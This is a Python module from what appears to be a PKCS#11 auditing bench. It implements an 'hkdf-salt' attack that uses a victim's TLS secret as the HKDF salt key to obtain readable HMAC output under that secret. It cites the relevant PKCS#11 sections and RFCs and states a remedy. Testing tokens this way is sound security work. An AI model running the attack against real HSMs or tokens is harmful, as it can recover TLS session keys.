"""hkdf-salt: HKDF-Extract with the victim's secret as the salt key is HMAC under it, of the caller's own data."""

from collections.abc import Iterable, Sequence
from functools import partial

from keyfence.cryptoki import Mechanism
from keyfence.cryptoki.constants import CKA, CKK, CKM, CKO
from keyfence.cryptoki.params import Hkdf
from keyfence.cryptoki.values import Template
from keyfence.model import Readable

from .base import Attack, Bench, Technique, preparing
from .oracle import OracleAttack, Way, data_templates, read_derived, readable_templates
from .targets import rests_on_hmac
from .victim import Kind, Victim

Import = tuple[str, int | None]
"""How the data becomes a base: a name for readers, and its key type; None for a data object."""

_IMPORTS: tuple[Import, ...] = (
    ("CKK_GENERIC_SECRET", int(CKK.GENERIC_SECRET)),
    ("CKK_HKDF", int(CKK.HKDF)),
    ("CKO_DATA", None),
)


class HkdfSalt(Technique):
    id = "hkdf-salt"
    title = "A TLS secret as HKDF's salt key"
    summary = (
        "HKDF-Extract is HMAC(salt, input key). With hSaltKey the victim's secret and an input key that the caller imported, "
        "byte for byte of its choice, the readable result is HMAC under the victim's secret: two calls per 32 bytes of a "
        "TLS 1.2 key block, one for a TLS 1.3 key. A handle inside a parameter is an operand like the base key."
    )
    section = "PKCS#11 3.2 §6.62.2 (CK_HKDF_PARAMS, CKF_HKDF_SALT_KEY), §6.62.3"
    references = ("RFC 5869 §2.2", "RFC 5246 §5", "RFC 8446 §7.1")
    remedy = (
        "A secret is a salt key in its place in the TLS 1.3 schedule and nowhere else; what is extracted is never readable."
    )
    kinds = frozenset({Kind.TLS12, Kind.TLS13, Kind.WTLS, Kind.SEPARATED})

    def attacks(self, victim: Victim) -> Iterable[Attack]:
        if not rests_on_hmac(victim):
            return []
        return [HkdfSaltAttack(victim, int(mechanism)) for mechanism in (CKM.HKDF_DERIVE, CKM.HKDF_DATA)]


class HkdfSaltAttack(OracleAttack):
    """Extract alone. The base key is the caller's, so all that protects the result is the module's care for its operands."""

    sink = Readable()

    def ways(self, bench: Bench) -> Sequence[Way]:
        return [
            Way(
                f"C_DeriveKey({self.name}, bExtract, hSaltKey, base {name}, {text})",
                partial(self._ask, bench, key_type, template),
            )
            for name, key_type in _IMPORTS
            for text, template in self._templates()
        ]

    def _templates(self) -> list[tuple[str, Template]]:
        templates = data_templates if self.mechanism == CKM.HKDF_DATA else readable_templates
        return list(templates(self.target.prf_hash.digest_size))

    def _ask(self, bench: Bench, key_type: int | None, template: Template, secret: int, data: bytes) -> bytes:
        hash_number = int(self.target.prf_hash.ckm)
        mechanism = Mechanism(self.mechanism, Hkdf(extract=True, expand=False, prf_hash=hash_number, salt_key=secret))
        with bench.session.scope():
            return read_derived(bench, mechanism, _import(bench, key_type, data), template)


def _import(bench: Bench, key_type: int | None, data: bytes) -> int:
    """The caller's data as an object that HKDF takes for its input key: a key, or since 3.0 a data object."""
    if key_type is None:
        with preparing():
            return bench.session.create({CKA.CLASS: int(CKO.DATA), CKA.TOKEN: False, CKA.VALUE: data})
    return bench.import_key(key_type, data, derive=True)
